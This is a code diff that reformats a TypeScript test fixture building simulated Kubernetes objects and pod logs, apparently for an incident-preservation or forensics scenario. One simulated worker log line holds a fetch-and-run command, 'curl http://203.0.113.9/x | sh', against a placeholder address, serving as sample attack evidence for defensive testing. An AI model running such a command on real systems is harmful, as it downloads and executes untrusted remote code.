@@ -35,7 +35,18 @@ export function preservationScenario(): Scenario {
         roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
         subjects: [{ kind: 'User', name: 'alice' }],
       },
-      { apiVersion: 'v1', kind: 'Event', metadata: { name: 'web.1', namespace: 'shop' }, involvedObject: { kind: 'Pod', name: 'web', namespace: 'shop' }, reason: 'Pulled', message: 'image pulled', type: 'Normal', firstTimestamp: '2026-03-01T10:00:00Z', lastTimestamp: '2026-03-01T10:00:00Z', count: 1 },
+      {
+        apiVersion: 'v1',
+        kind: 'Event',
+        metadata: { name: 'web.1', namespace: 'shop' },
+        involvedObject: { kind: 'Pod', name: 'web', namespace: 'shop' },
+        reason: 'Pulled',
+        message: 'image pulled',
+        type: 'Normal',
+        firstTimestamp: '2026-03-01T10:00:00Z',
+        lastTimestamp: '2026-03-01T10:00:00Z',
+        count: 1,
+      },
     ],
     logs: {
       'shop/web/app': {
@@ -48,8 +59,12 @@ export function preservationScenario(): Scenario {
           { time: '2026-03-01T11:00:00Z', message: 'GET /admin 200 from 203.0.113.9' },
         ],
       },
-      'shop/worker/main': { current: [{ time: '2026-03-01T10:00:02Z', message: 'worker instance 0 line 1' }, { time: '2026-03-01T11:30:00Z', message: 'worker instance 0: curl http://203.0.113.9/x | sh' }] },
+      'shop/worker/main': {
+        current: [
+          { time: '2026-03-01T10:00:02Z', message: 'worker instance 0 line 1' },
+          { time: '2026-03-01T11:30:00Z', message: 'worker instance 0: curl http://203.0.113.9/x | sh' },
+        ],
+      },
     },
   };
 }
-
